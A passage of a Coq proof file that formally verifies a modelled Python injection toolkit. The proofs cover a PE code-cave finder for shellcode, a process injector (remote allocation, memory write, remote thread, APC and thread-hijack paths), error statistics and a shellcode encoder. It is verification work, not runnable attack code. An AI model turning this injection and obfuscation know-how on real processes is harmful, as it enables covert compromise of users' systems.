  - exists None. split; [done|]. intros s Hs. by apply elem_of_nil in Hs.
  - cbn [scan_sections]. destruct IH as (r & Hr & Hspec).
    destruct (executable section) eqn:Hexec.
    + destruct (scan_section_spec (S (length (get_data section))) section size 0)
        as (r0 & Hr0 & Hspec0); [done|lia|unfold len; lia| |].
      { intros p Hp (Hp0 & _). lia. }
      rewrite Hr0. destruct r0 as [[va n]|].
      * exists (Some (va, n)). split; [done|].
        destruct Hspec0 as (p & -> & -> & Hrun & Hfirst).
        exists [], section, secs, p. split_and!; try done.
        intros s Hs. by apply elem_of_nil in Hs.
      * exists r. split; [done|]. destruct r as [[va n]|].
        -- destruct Hspec as (before & s & after & p & -> & ? & ? & ? & ? & ? & Hb).
           exists (section :: before), s, after, p. split_and!; try done.
           intros s' [->|Hs']%elem_of_cons; [intros _; apply Hspec0|by apply Hb].
        -- intros s [->|Hs]%elem_of_cons; [intros _; apply Hspec0|by apply Hspec].
    + exists r. split; [done|]. destruct r as [[va n]|].
      * destruct Hspec as (before & s & after & p & -> & ? & ? & ? & ? & ? & Hb).
        exists (section :: before), s, after, p. split_and!; try done.
        intros s' [->|Hs']%elem_of_cons; [congruence|by apply Hb].
      * intros s [->|Hs]%elem_of_cons; [congruence|by apply Hspec].
Qed.

Lemma forty_zeros_filler (pre post : list Z) (q : Z) :
  Forall plain pre -> Forall plain post ->
  0 <= q < len (pre ++ replicate 40 0 ++ post) ->
  is_cave_byte ((pre ++ replicate 40 0 ++ post) !!! Z.to_nat q) = true <->
  len pre <= q < len pre + 40.
Proof.
  intros Hpre Hpost Hq. unfold len in *.
  rewrite !length_app, length_replicate in Hq.
  destruct (Z.lt_ge_cases q (Z.of_nat (length pre))) as [Hlt|Hge].
  - rewrite lookup_total_app_l by lia.
    pose proof (Forall_lookup_total_1 _ _ (Z.to_nat q) Hpre ltac:(lia)) as Hp.
    unfold plain in Hp. rewrite Hp. split; [done|lia].
  - rewrite lookup_total_app_r by lia.
    destruct (Z.lt_ge_cases q (Z.of_nat (length pre) + 40)) as [Hin|Hout].
    + rewrite lookup_total_app_l by (rewrite length_replicate; lia).
      rewrite lookup_total_replicate_2 by lia. split; [lia|done].
    + rewrite lookup_total_app_r by (rewrite length_replicate; lia).
      rewrite length_replicate.
      pose proof (Forall_lookup_total_1 _ _
                    (Z.to_nat q - length pre - 40) Hpost ltac:(lia)) as Hp.
      unfold plain in Hp. rewrite Hp. split; [done|lia].
Qed.

Lemma forty_zeros_runs (pre post : list Z) (size p : Z) :
  Forall plain pre -> Forall plain post -> 0 < size ->
  filler_run (pre ++ replicate 40 0 ++ post) size p <->
  len pre <= p /\ p + size <= len pre + 40.
Proof.
  intros Hpre Hpost Hsize. split.
  - intros (Hp0 & Hend & Hall).
    pose proof (Hall p ltac:(lia)) as Hfirst.
    pose proof (Hall (p + size - 1) ltac:(lia)) as Hlast.
    apply forty_zeros_filler in Hfirst; [|done|done|lia].
    apply forty_zeros_filler in Hlast; [|done|done|lia]. lia.
  - intros [Hlo Hhi]. unfold filler_run.
    assert (len (pre ++ replicate 40 0 ++ post) = len pre + 40 + len post).
    { unfold len. rewrite !length_app, length_replicate. lia. }
    assert (0 <= len pre /\ 0 <= len post) by (unfold len; lia).
    split; [lia|]. split; [lia|].
    intros q Hq. apply forty_zeros_filler; (done || lia).
Qed.

(** C7 (as the code has it).  For a requested size of at least 1,
    [_find_code_cave] always answers; a match is the virtual address of the
    first offset, in the first executable section that has one, that starts
    [size] bytes in a row each equal to [0x00] or [0xCC], reported with
    length [size]; no match means no executable section has such a run.  An
    executable section made of forty zero bytes between bytes that are
    neither [0x00] nor [0xCC] yields the run's offset with length 35 for
    size 35 and no match for size 41.  When no cave of payload length + 5
    exists, [_inject_code_cave] raises an Operation error in its [try] block,
    logs it and returns false, with the image unchanged. *)
Theorem find_code_cave_first_run :
  (forall (pe : PE) (size : Z),
     0 < size ->
     exists r,
       _find_code_cave pe size = Done r /\
       first_cave (sections pe) size r /\
       forall va n, r = Some (va, n) -> n >= size) /\
  (forall (va : Z) (pre post data : list Z) (entry : Z),
     Forall plain pre -> Forall plain post ->
     let pe := MkPE [forty_zeros va pre post] data entry in
     _find_code_cave pe 35 = Done (Some (va + len pre, 35)) /\
     _find_code_cave pe 41 = Done None) /\
  (forall (get_offset_from_rva : PE -> Z -> outcome Z) (config : PyVal)
          (pe : PE) (shellcode : list Z) (rt : Runtime),
     _find_code_cave pe (len shellcode + 5) = Done None ->
     let e := raise_exc OperationError "未找到足够大的代码洞" in
     inject_code_cave_try get_offset_from_rva config pe shellcode
       = Done (pe, Raised e) /\
     _inject_code_cave get_offset_from_rva config pe shellcode rt
       = Done (pe, emit (LogError e (Some "代码洞注入失败")) rt, false)).
Proof.
  split; [|split].
  - intros pe size Hsize.
    destruct (scan_sections_spec (sections pe) size Hsize) as (r & Hr & Hspec).
    exists r. split; [done|]. split; [done|].
    intros va n Heq. subst r.
    destruct Hspec as (_ & _ & _ & _ & _ & _ & _ & Hn & _). lia.
  - intros va pre post data entry Hpre Hpost pe.
    assert (Hlen : 0 <= len pre) by (unfold len; lia).
    split.
    + destruct (scan_sections_spec (sections pe) 35 ltac:(lia))
        as (r & Hr & Hspec).
      unfold _find_code_cave. rewrite Hr. do 2 f_equal.
      destruct r as [[va' n]|].
      * destruct Hspec as (before & s & after & p & Hsecs & _ & -> & -> & Hrun
                           & Hfirst & _).
        destruct before as [|s0 before]; cbn in Hsecs; simplify_eq;
          [|by destruct before].
        cbn [VirtualAddress get_data forty_zeros] in *.
        apply forty_zeros_runs in Hrun as [Hlo Hhi]; [|done|done|lia].
        destruct (Z.eq_dec p (len pre)) as [->|Hne]; [done|].
        exfalso. apply (Hfirst (len pre)); [lia|].
        apply forty_zeros_runs; (done || lia).
      * exfalso.
        apply (Hspec (forty_zeros va pre post)) with (p := len pre);
          [by left|done|].
        cbn [get_data forty_zeros]. apply forty_zeros_runs; (done || lia).
    + destruct (scan_sections_spec (sections pe) 41 ltac:(lia))
        as (r & Hr & Hspec).
      unfold _find_code_cave. rewrite Hr. do 2 f_equal.
      destruct r as [[va' n]|]; [|done]. exfalso.
      destruct Hspec as (before & s & after & p & Hsecs & _ & _ & _ & Hrun & _).
      destruct before as [|s0 before]; cbn in Hsecs; simplify_eq;
        [|by destruct before].
      cbn [get_data forty_zeros] in Hrun.
      apply forty_zeros_runs in Hrun; [lia|done|done|lia].
  - intros get_offset_from_rva config pe shellcode rt Hnone e.
    unfold _inject_code_cave, inject_code_cave_try. by rewrite Hnone.
Qed.

(** Forty zero bytes between [0x90 0x90] and [0xC3], at address 0x1000. *)
Example forty_zeros_between_code :
  let pe := MkPE [forty_zeros 0x1000 [0x90; 0x90] [0xC3]] [] 0x1000 in
  _find_code_cave pe 35 = Done (Some (0x1002, 35)) /\
  _find_code_cave pe 40 = Done (Some (0x1002, 40)) /\
  _find_code_cave pe 41 = Done None.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C7, as stated, fails on the code: forty zero bytes surrounded by the
    non-zero bytes [0x55 0xCC] and [0xC3].  The [0xCC] counts as filler, so
    a requested size of 41 does find a match, and for size 35 the match
    starts one byte before the zero run (offset 1, not 2). *)
Lemma int3_neighbour_extends_the_cave :
  let pe := MkPE [forty_zeros 0x1000 [0x55; 0xCC] [0xC3]] [] 0x1000 in
  _find_code_cave pe 41 = Done (Some (0x1001, 41)) /\
  _find_code_cave pe 35 = Done (Some (0x1001, 35)).
Proof. split; vm_compute; reflexivity. Qed.

(** ** The process handle (tools/process_injector.py) *)

Section Calls.
Variable env : Env.

Lemma adds_ret {A} (a : A) : adds_calls (ret a).
Proof. intros s. exists []. by rewrite app_nil_r. Qed.

Lemma adds_raise {A} c msg : adds_calls (@raise A c msg).
Proof. intros s. exists []. by rewrite app_nil_r. Qed.

Lemma adds_lift {A} (r : outcome A) : adds_calls (lift r).
Proof. intros s. exists []. by rewrite app_nil_r. Qed.

Lemma adds_bind {A B} (m : M A) (k : A -> M B) :
  adds_calls m -> (forall a, adds_calls (k a)) -> adds_calls (bindM m k).
Proof.
  intros Hm Hk s. unfold bindM.
  destruct (Hm s) as (ext1 & E1 & F1).
  destruct (m s) as [s1 [a|e]]; cbn [fst] in *.
  - destruct (Hk a s1) as (ext2 & E2 & F2).
    exists (ext1 ++ ext2). rewrite E2, E1, app_assoc. split; [done|].
    by apply Forall_app.
  - by exists ext1.
Qed.

Lemma adds_try_except {A} (body : M A) (handler : PyExc -> M A) :
  adds_calls body -> (forall e, adds_calls (handler e)) ->
  adds_calls (try_except body handler).
Proof.
  intros Hm Hk s. unfold try_except.
  destruct (Hm s) as (ext1 & E1 & F1).
  destruct (body s) as [s1 [a|e]]; cbn [fst] in *.
  - by exists ext1.
  - destruct (Hk e s1) as (ext2 & E2 & F2).
    exists (ext1 ++ ext2). rewrite E2, E1, app_assoc. split; [done|].
    by apply Forall_app.
Qed.

Lemma adds_try_finally {A} (body : M A) (fin : M unit) :
  adds_calls body -> adds_calls fin -> adds_calls (try_finally body fin).
Proof.
  intros Hm Hk s. unfold try_finally.
  destruct (Hm s) as (ext1 & E1 & F1).
  destruct (body s) as [s1 r]; cbn [fst] in *.
  destruct (Hk s1) as (ext2 & E2 & F2).
  exists (ext1 ++ ext2).
  destruct (fin s1) as [s2 [[]|e]]; cbn [fst] in *;
    (rewrite E2, E1, app_assoc; split; [done|by apply Forall_app]).
Qed.

Lemma adds_syscall (c : Kernel32) :
  ~ is_open_process (c, Returned 0) -> adds_calls (syscall env c).
Proof.
  intros Hc s. exists [(c, kernel32 env (trace s) c)]. split; [done|].
  by apply Forall_singleton.
Qed.

Lemma adds_threads_of pid : adds_calls (threads_of env pid).
Proof. intros s. exists []. by rewrite app_nil_r. Qed.

Lemma adds_update_progress c t msg : adds_calls (update_progress env c t msg).
Proof. intros s. exists []. by rewrite app_nil_r. Qed.

Lemma adds_log_error e ctx : adds_calls (log_error e ctx).
Proof. intros s. exists []. by rewrite app_nil_r. Qed.

Lemma adds_config_at config a b : adds_calls (config_at config a b).
Proof. apply adds_lift. Qed.

Lemma adds_if {A} (c : bool) (m1 m2 : M A) :
  adds_calls m1 -> adds_calls m2 -> adds_calls (if c then m1 else m2).
Proof. by destruct c. Qed.

Lemma adds_for_each {S A} (body : S -> A -> M S) (l : list A) (acc : S) :
  (forall acc x, adds_calls (body acc x)) -> adds_calls (for_each body l acc).
Proof.
  intros Hbody. revert acc. induction l as [|x l IH]; intros acc; cbn [for_each].
  - apply adds_ret.
  - apply adds_bind; [apply Hbody|]. intros acc'. apply IH.
Qed.

Lemma adds_first_thread ids : adds_calls (first_thread env ids).
Proof.
  induction ids as [|tid ids IH]; cbn [first_thread].
  - apply adds_ret.
  - apply adds_bind; [apply adds_syscall; cbn; tauto|]. intros h.
    apply adds_if; [done|apply adds_ret].
Qed.

Ltac adds :=
  repeat first
    [ apply adds_ret | apply adds_raise | apply adds_lift
    | apply adds_update_progress | apply adds_log_error | apply adds_config_at
    | apply adds_threads_of | apply adds_first_thread
    | apply adds_syscall; cbn; tauto
    | apply adds_bind; [|intros ?]
    | apply adds_try_except; [|intros ?]
    | apply adds_try_finally
    | apply adds_for_each; intros ? ?
    | apply adds_if
    | progress unfold _hide_thread, _protect_memory, _module_injection
    | match goal with |- adds_calls (match ?x with _ => _ end) => destruct x end ].

Lemma adds_encrypt_shellcode config shellcode :
  adds_calls (_encrypt_shellcode config shellcode).
Proof. unfold _encrypt_shellcode. adds. Qed.

Lemma adds_classic_injection config h addr :
  adds_calls (_classic_injection env config h addr).
Proof. unfold _classic_injection. adds. Qed.

Lemma adds_apc_injection config h addr pid :
  adds_calls (_apc_injection env config h addr pid).
Proof. unfold _apc_injection. adds. Qed.

Lemma adds_thread_hijack config h addr pid :
  adds_calls (_thread_hijack env config h addr pid).
Proof. unfold _thread_hijack. adds. Qed.

Lemma adds_inject_with_handle config pid h shellcode :
  adds_calls (inject_with_handle env config pid h shellcode).
Proof.
  unfold inject_with_handle.
  repeat first
    [ apply adds_encrypt_shellcode | apply adds_classic_injection
    | apply adds_apc_injection | apply adds_thread_hijack
    | apply adds_ret | apply adds_raise
    | apply adds_update_progress | apply adds_config_at
    | apply adds_syscall; cbn; tauto
    | apply adds_bind; [|intros ?]
    | apply adds_if
    | progress unfold _protect_memory, _module_injection ].
Qed.

End Calls.

Lemma try_except_log_trace {A} (body : M A) (ctx : string) (s : State) :
  trace (fst (try_except body
                (λ e, bindM (log_error e ctx) (λ _, lift (Raised e))) s))
  = trace (fst (body s)).
Proof. unfold try_except. by destruct (body s) as [s1 [a|e]]. Qed.

Lemma inject_body_trace (env : Env) (config : PyVal) (pid : Z)
    (shellcode_file : string) (s : State) :
  exists ext,
    trace (fst (inject_body env config pid shellcode_file s)) = trace s ++ ext /\
    handle_discipline pid ext.
Proof.
  unfold inject_body. rewrite try_except_log_trace.
  assert (Hnone : forall (r : outcome bool),
            exists ext,
              trace (fst (s, r)) = trace s ++ ext /\ handle_discipline pid ext).
  { intros r. exists []. rewrite app_nil_r. split; [done|constructor]. }
  destruct (path_exists env shellcode_file); cbn [negb]; [|by apply Hnone].
  unfold bindM at 1, lift at 1.
  destruct (pid_exists env pid) as [alive|e]; [|by apply Hnone].
  destruct alive; cbn [negb]; [|by apply Hnone].
  unfold bindM at 1, lift at 1.
  destruct (read_file env shellcode_file) as [shellcode|e]; [|by apply Hnone].
  unfold bindM at 1, update_progress at 1. cbn [trace progress rt].
  unfold bindM at 1, syscall at 1. cbn [trace progress rt].
  set (open := OpenProcess PROCESS_ALL_ACCESS false pid).
  destruct (kernel32 env (trace s) open) as [h|e] eqn:Hopen.
  - destruct (Z.eqb_spec h 0) as [->|Hh].
    + exists [(open, Returned 0)]. split; [done|].
      apply open_failed. by left.
    + set (s1 := MkState _ _ _).
      unfold try_finally.
      destruct (adds_inject_with_handle env config pid h shellcode s1)
        as (mid & Hmid & Fmid).
      destruct (inject_with_handle env config pid h shellcode s1)
        as [s2 r2] eqn:Hbody.
      cbn [fst] in Hmid.
      unfold bindM at 1, syscall at 1, ret. cbn [trace progress rt].
      exists ([(open, Returned h)] ++ mid
              ++ [(CloseHandle h, kernel32 env (trace s2) (CloseHandle h))]).
      split; [|by apply opened_and_closed].
      assert (Htr : trace s2 ++ [(CloseHandle h,
                                  kernel32 env (trace s2) (CloseHandle h))]
                    = trace s ++ [(open, Returned h)] ++ mid
                      ++ [(CloseHandle h, kernel32 env (trace s2) (CloseHandle h))]).
      { rewrite Hmid. subst s1. cbn [trace]. by rewrite <- !app_assoc. }
      destruct (kernel32 env (trace s2) (CloseHandle h)) as [c|e];
        cbn [fst]; exact Htr.
  - exists [(open, Raised e)]. split; [done|].
    apply open_failed. right. by exists e.
Qed.

(** C8: whenever [OpenProcess] hands [inject] a non-null handle,
    [CloseHandle] is called on that handle, as the last system call of the
    call, whether the injection completes or a later step raises; between
    the two no other process is opened. *)
Theorem inject_closes_process_handle (env : Env) (config : PyVal) (pid : Z)
    (shellcode_file : string) (s : State) (h : Z) :
  let opened := (OpenProcess PROCESS_ALL_ACCESS false pid, Returned h) in
  let after := trace (fst (inject_body env config pid shellcode_file s)) in
  h <> 0 ->
  (exists before rest, after = trace s ++ before ++ opened :: rest) ->
  (exists mid closed,
      after = trace s ++ [opened] ++ mid ++ [(CloseHandle h, closed)] /\
      Forall (λ ev, ~ is_open_process ev) mid) /\
  trace (fst (inject env config pid shellcode_file s)) = after.
Proof.
  intros opened after Hh (before & rest & Hafter). split.
  - destruct (inject_body_trace env config pid shellcode_file s)
      as (ext & Hext & Hshape).
    fold after in Hext. rewrite Hext in Hafter |- *.
    apply app_inv_head in Hafter.
    destruct Hshape as [|res Hres|h' mid closed Hh' Hmid].
    + by destruct before.
    + destruct before as [|x before]; [|by destruct before].
      cbn in Hafter. unfold opened in Hafter. simplify_eq.
      destruct Hres as [?|[e ?]]; simplify_eq.
    + destruct before as [|x before].
      * cbn in Hafter. unfold opened in Hafter. simplify_eq.
        by exists mid, closed.
      * exfalso. cbn in Hafter. injection Hafter as _ Heq.
        assert (Hin : opened ∈ mid ++ [(CloseHandle h', closed)]).
        { rewrite Heq. apply elem_of_app. right. by left. }
        apply elem_of_app in Hin as [Hin|Hin].
        -- rewrite Forall_forall in Hmid. by apply (Hmid opened).
        -- apply list_elem_of_singleton in Hin. discriminate Hin.
  - unfold inject, after.
    destruct (inject_body env config pid shellcode_file s) as [s1 [b|e]];
      cbn [fst trace]; [done|].
    by destruct (error_handler "inject" (Raised e) (rt s1)).
Qed.

Lemma inject_closes_process_handle_witness :
  snd (inject_body (world stingy_kernel) injector_config 4242 "payload.bin" idle)
    = Raised (raise_exc OperationError "内存分配失败") /\
  exists mid closed,
    trace (fst (inject_body (world stingy_kernel) injector_config 4242
                  "payload.bin" idle))
    = [] ++ [(OpenProcess PROCESS_ALL_ACCESS false 4242, Returned 0x1A4)] ++ mid
      ++ [(CloseHandle 0x1A4, closed)] /\
    Forall (λ ev, ~ is_open_process ev) mid.
Proof.
  split; [reflexivity|].
  apply (inject_closes_process_handle (world stingy_kernel) injector_config
           4242 "payload.bin" idle 0x1A4).
  - discriminate.
  - exists [], [(VirtualAllocEx 0x1A4 0 2 0x3000 0x40, Returned 0);
                (CloseHandle 0x1A4, Returned 1)].
    reflexivity.
Defined.

(** Both exits on these worlds: the full trace of a completed injection, and
    of one whose allocation fails. *)
Example inject_traces :
  inject_body (world friendly_kernel) injector_config 4242 "payload.bin" idle
    = (MkState
         [ (OpenProcess 0x1F0FFF false 4242, Returned 0x1A4);
           (VirtualAllocEx 0x1A4 0 2 0x3000 0x40, Returned 0x7FF00000);
           (WriteProcessMemory 0x1A4 0x7FF00000 [0x3A; 0x69] 2, Returned 1);
           (CreateRemoteThread 0x1A4 0x7FF00000, Returned 1);
           (CloseHandle 0x1A4, Returned 1) ]
         (ToolBase.MkProgress 5 5 "注入完成" [] 0 0)
         Runtime_init,
       Returned true) /\
  trace (fst (inject_body (world stingy_kernel) injector_config 4242
                "payload.bin" idle))
    = [ (OpenProcess 0x1F0FFF false 4242, Returned 0x1A4);
        (VirtualAllocEx 0x1A4 0 2 0x3000 0x40, Returned 0);
        (CloseHandle 0x1A4, Returned 1) ].
Proof. split; vm_compute; reflexivity. Qed.

(** ** Error statistics (utils/error_handler.py) *)

Lemma handle_error_stats (e : PyExc) (ctx : option string) (rt : Runtime) :
  error_stats (handle_error e ctx rt).1
  = if is_BedToolsError (exc_class e)
    then record_error e (error_stats rt) else error_stats rt.
Proof.
  unfold handle_error. rewrite handler_keeps_stats.
  destruct (is_BedToolsError (exc_class e)); [|done].
  set (rt1 := MkRuntime _ _ _).
  destruct (try_recover_spec e rt1) as (_ & Hs & _).
  destruct (try_recover e rt1) as [rt2 recovered]. cbn [fst] in Hs.
  by destruct recovered.
Qed.

Lemma count_up_get (k k' : string) (d : pydict Z) :
  default 0 (dict_get k (count_up k' d))
  = default 0 (dict_get k d) + (if String.eqb k k' then 1 else 0).
Proof.
  unfold count_up. destruct (String.eqb_spec k k') as [->|Hne].
  - by rewrite dict_get_set_eq.
  - rewrite dict_get_set_ne by done. lia.
Qed.

Lemma record_error_history_len (e : PyExc) (st : ErrorStats) :
  len (error_history st) <= 1000 ->
  len (error_history (record_error e st))
  = Z.min (len (error_history st) + 1) 1000.
Proof.
  intros Hle. unfold record_error. cbn [error_history]. unfold len in *.
  set (history := error_history st ++ [_]).
  assert (Hlen : length history = S (length (error_history st))).
  { unfold history. rewrite length_app. simpl. lia. }
  destruct (Z.ltb_spec 1000 (Z.of_nat (length history))).
  - change (-1000) with (Z.opp 1000). rewrite slice_from_neg by lia.
    rewrite length_drop. lia.
  - lia.
Qed.

Lemma tally_cons (attribute : ExcClass -> string) (k : string)
    (e : PyExc) (errors : list PyExc) :
  tally attribute k (e :: errors)
  = (if String.eqb (attribute (exc_class e)) k then 1 else 0)
    + tally attribute k errors.
Proof.
  unfold tally, len. cbn [List.filter].
  destruct (String.eqb _ k); cbn [length]; lia.
Qed.

Lemma handle_all_stats (errors : list (PyExc * option string)) (rt : Runtime) :
  let st := error_stats rt in
  let st' := error_stats (handle_all errors rt) in
  let recorded := toolkit_errors errors in
  total_errors st' = total_errors st + len recorded /\
  (forall k, default 0 (dict_get k (errors_by_code st'))
             = default 0 (dict_get k (errors_by_code st))
               + tally error_code k recorded) /\
  (forall k, default 0 (dict_get k (errors_by_severity st'))
             = default 0 (dict_get k (errors_by_severity st))
               + tally severity k recorded) /\
  (forall k, default 0 (dict_get k (errors_by_category st'))
             = default 0 (dict_get k (errors_by_category st))
               + tally category k recorded) /\
  (len (error_history st) <= 1000 ->
   len (error_history st')
   = Z.min (len (error_history st) + len recorded) 1000).
Proof.
  cbv zeta. revert rt.
  induction errors as [|[e ctx] errors IH]; intros rt.
  - cbn. unfold tally, len. cbn. repeat split; intros; lia.
  - change (handle_all ((e, ctx) :: errors) rt)
      with (handle_all errors (handle_error e ctx rt).1).
    destruct (IH (handle_error e ctx rt).1) as (Ht & Hc & Hs & Hg & Hh).
    rewrite handle_error_stats in Ht, Hc, Hs, Hg, Hh.
    unfold toolkit_errors in *. cbn [map fst List.filter].
    destruct (is_BedToolsError (exc_class e)) eqn:Hcustom.
    + rewrite Ht. split.
      { unfold record_error, len. cbn [total_errors length]. lia. }
      split. { intros k. rewrite Hc, tally_cons. unfold record_error.
               cbn [errors_by_code]. rewrite count_up_get.
               rewrite (String.eqb_sym k). lia. }
      split. { intros k. rewrite Hs, tally_cons. unfold record_error.
               cbn [errors_by_severity]. rewrite count_up_get.
               rewrite (String.eqb_sym k). lia. }
      split. { intros k. rewrite Hg, tally_cons. unfold record_error.
               cbn [errors_by_category]. rewrite count_up_get.
               rewrite (String.eqb_sym k). lia. }
      intros Hle. pose proof (record_error_history_len e (error_stats rt) Hle) as Hone.
      rewrite Hh by lia. rewrite Hone. unfold len. cbn [length]. lia.
    + done.
Qed.

(** The statistics count exactly the toolkit's own exceptions.  After a
    series of handled exceptions none of which makes the recovery reload a
    plugin, starting from a fresh handler, [total_errors] is the number of
    [BedToolsError] instances among them, the three tables hold for every
    code, severity and category the number of those whose attribute it is,
    and the history holds the last 1000 at most. *)
Theorem handle_error_statistics (errors : list (PyExc * option string)) :
  Forall (λ ec, asks_reload ec.1 = false) errors ->
  let st := error_stats (handle_all errors Runtime_init) in
  let recorded := toolkit_errors errors in
  total_errors st = len recorded /\
  (forall k, default 0 (dict_get k (errors_by_code st))
             = tally error_code k recorded) /\
  (forall k, default 0 (dict_get k (errors_by_severity st))
             = tally severity k recorded) /\
  (forall k, default 0 (dict_get k (errors_by_category st))
             = tally category k recorded) /\
  len (error_history st) = Z.min (len recorded) 1000.
Proof.
  intros _. cbv zeta.
  destruct (handle_all_stats errors Runtime_init) as (Ht & Hc & Hs & Hg & Hh).
  split; [by rewrite Ht|]. split; [intros k; by rewrite Hc|].
  split; [intros k; by rewrite Hs|]. split; [intros k; by rewrite Hg|].
  rewrite Hh; [done|]. unfold len. cbn. lia.
Qed.

Lemma handle_error_statistics_witness :
  let st := error_stats (handle_all four_errors Runtime_init) in
  let recorded := toolkit_errors four_errors in
  total_errors st = len recorded /\
  (forall k, default 0 (dict_get k (errors_by_code st))
             = tally error_code k recorded) /\
  (forall k, default 0 (dict_get k (errors_by_severity st))
             = tally severity k recorded) /\
  (forall k, default 0 (dict_get k (errors_by_category st))
             = tally category k recorded) /\
  len (error_history st) = Z.min (len recorded) 1000.
Proof.
  apply (handle_error_statistics four_errors).
  repeat constructor.
Defined.

(** On these four the base-class instance counts under the code it was
    built with. *)
Example statistics_of_four_errors :
  let st := error_stats (handle_all four_errors Runtime_init) in
  total_errors st = 3 /\
  errors_by_code st
  = [("ERR_OPERATION", 1); ("ERR_VALIDATION", 1); ("ERR_PLUGIN", 1)] /\
  errors_by_severity st = [("ERROR", 2); ("INFO", 1)].
Proof. vm_compute. done. Qed.

(** What [handle_error] writes to the log always ends the previous log.  For
    an exception within the handler's range whose recovery reloads no
    plugin, it includes the line announcing a successful recovery exactly
    when the exception is one of the toolkit's errors and its error code is
    [ERR_VALIDATION] or [ERR_PLUGIN]: every Validation error, every Plugin
    error, and an instance of the base class built with one of these codes. *)
Theorem handle_error_announces_recovery
    (e : PyExc) (ctx : option string) (rt : Runtime) :
  dispatched_by_class e = true ->
  asks_reload e = false ->
  exists entries,
    log (handle_error e ctx rt).1 = log rt ++ entries /\
    (recovery_line e ∈ entries <->
       is_BedToolsError (exc_class e) = true /\
       (error_code (exc_class e) = "ERR_VALIDATION" \/
        error_code (exc_class e) = "ERR_PLUGIN")).
Proof.
  intros _ _.
  destruct (handle_error_log e ctx rt) as (entry & Hentry & ->).
  eexists. split; [reflexivity|].
  assert (Hcodes : has_recovery_handler e = true <->
            error_code (exc_class e) = "ERR_VALIDATION" \/
            error_code (exc_class e) = "ERR_PLUGIN").
  { unfold has_recovery_handler. rewrite orb_true_iff, !String.eqb_eq. tauto. }
  rewrite <- Hcodes, <- andb_true_iff.
  destruct (_ && _); cbn [app].
  - split; [done|]. intros _. by left.
  - rewrite list_elem_of_singleton. split; [by intros Heq|done].
Qed.

Lemma handle_error_announces_recovery_witness :
  let e := raise_exc (BedToolsError "ERR_VALIDATION" "INFO" "UI") "字段为空" in
  exists entries,
    log (handle_error e None Runtime_init).1 = log Runtime_init ++ entries /\
    (recovery_line e ∈ entries <->
       is_BedToolsError (exc_class e) = true /\
       (error_code (exc_class e) = "ERR_VALIDATION" \/
        error_code (exc_class e) = "ERR_PLUGIN")).
Proof.
  apply (handle_error_announces_recovery
           (raise_exc (BedToolsError "ERR_VALIDATION" "INFO" "UI") "字段为空"));
    reflexivity.
Defined.

(** ** Encoders (tools/obfuscator.py) *)

(** A check that holds on every value of [range(256)] holds on every byte. *)
Lemma byte_cases (check : Z -> bool) :
  forallb check (seqZ 0 256) = true -> forall b, byte b -> check b = true.
Proof.
  intros Hall b Hb.
  apply (proj1 (forallb_forall check (seqZ 0 256)) Hall).
  apply list_elem_of_In, elem_of_seqZ. unfold byte in Hb. lia.
Qed.

Lemma nibbles_are_bytes (b : Z) : byte b -> forallb is_byte (nibbles b) = true.
Proof. apply (byte_cases (λ b, forallb is_byte (nibbles b))). by vm_compute. Qed.

Lemma nibbles_range (b : Z) :
  byte b -> forallb (λ x, (0x40 <=? x) && (x <=? 0x4F)) (nibbles b) = true.
Proof.
  apply (byte_cases
           (λ b, forallb (λ x, (0x40 <=? x) && (x <=? 0x4F)) (nibbles b))).
  by vm_compute.
Qed.

Lemma nibbles_decode (b : Z) (rest : list Z) :
  byte b -> custom_decode (nibbles b ++ rest) = b :: custom_decode rest.
Proof.
  intros Hb. cbn [nibbles app custom_decode]. f_equal.
  apply Z.eqb_eq.
  by apply (byte_cases
    (λ b, 16 * Z.land (Z.lor (Z.land (Z.shiftr b 4) 0xF) 0x40) 0xF
          + Z.land (Z.lor (Z.land b 0xF) 0x40) 0xF =? b)).
Qed.

Lemma custom_encode_step_byte (result : list Z) (b : Z) :
  byte b ->
  ObfuscatorPasses.custom_encode_step result b = Returned (result ++ nibbles b).
Proof.
  intros Hb. pose proof (nibbles_are_bytes b Hb) as Hn.
  unfold nibbles in Hn. cbn [forallb] in Hn.
  apply andb_true_iff in Hn as [Hh Hn]. apply andb_true_iff in Hn as [Hl _].
  unfold ObfuscatorPasses.custom_encode_step, bytearray_append.
  rewrite Hh. cbn [mbind outcome_bind]. rewrite Hl.
  by rewrite <- app_assoc.
Qed.

Lemma custom_encode_loop (data result : list Z) :
  Forall byte data ->
  foldM ObfuscatorPasses.custom_encode_step data result
  = Returned (result ++ concat (map nibbles data)).
Proof.
  intros Hd. revert result.
  induction Hd as [|b data Hb _ IH]; intros result.
  - cbn. by rewrite app_nil_r.
  - cbn [foldM]. rewrite custom_encode_step_byte by done.
    cbn [mbind outcome_bind]. rewrite IH. cbn [map concat].
    by rewrite <- !app_assoc.
Qed.

(** [_custom_encode] always succeeds on bytes and can be read back: the
    result has two bytes for each byte of the input, all in [0x40..0x4F], and
    each pair holds the high and the low four bits of the byte it stands for. *)
Theorem custom_encode_roundtrip (data : list Z) (rt : Runtime) :
  Forall byte data ->
  exists encoded,
    ObfuscatorPasses._custom_encode data rt = (rt, Returned encoded) /\
    len encoded = 2 * len data /\
    Forall (λ x, 0x40 <= x <= 0x4F) encoded /\
    custom_decode encoded = data.
Proof.
  intros Hd. exists (concat (map nibbles data)).
  assert (Hrange : Forall (λ x, 0x40 <= x <= 0x4F) (concat (map nibbles data))).
  { induction Hd as [|b data Hb _ IH]; [constructor|].
    cbn [map concat]. apply Forall_app. split; [|done].
    pose proof (nibbles_range b Hb) as Hr.
    apply Forall_forall. intros x Hx.
    apply list_elem_of_In in Hx.
    apply (proj1 (forallb_forall _ _) Hr) in Hx. lia. }
  split; [|split; [|split; [done|]]].
  - unfold ObfuscatorPasses._custom_encode.
    rewrite custom_encode_loop by done. cbn [mbind outcome_bind app].
    rewrite bytes_of_ok; [done|].
    eapply Forall_impl; [exact Hrange|]. unfold byte. intros x Hx. cbn in Hx. lia.
  - unfold len. clear Hd Hrange. induction data as [|b data IH]; [reflexivity|].
    cbn [map concat]. rewrite length_app. cbn [nibbles length]. lia.
  - clear Hrange. induction Hd as [|b data Hb _ IH]; [done|].
    cbn [map concat]. rewrite nibbles_decode by done. by rewrite IH.
Qed.

Lemma custom_encode_roundtrip_witness :
  exists encoded,
    ObfuscatorPasses._custom_encode [0x90; 0xC3] Runtime_init
      = (Runtime_init, Returned encoded) /\
    len encoded = 2 * len [0x90; 0xC3] /\
    Forall (λ x, 0x40 <= x <= 0x4F) encoded /\
    custom_decode encoded = [0x90; 0xC3].
Proof.
  apply custom_encode_roundtrip.
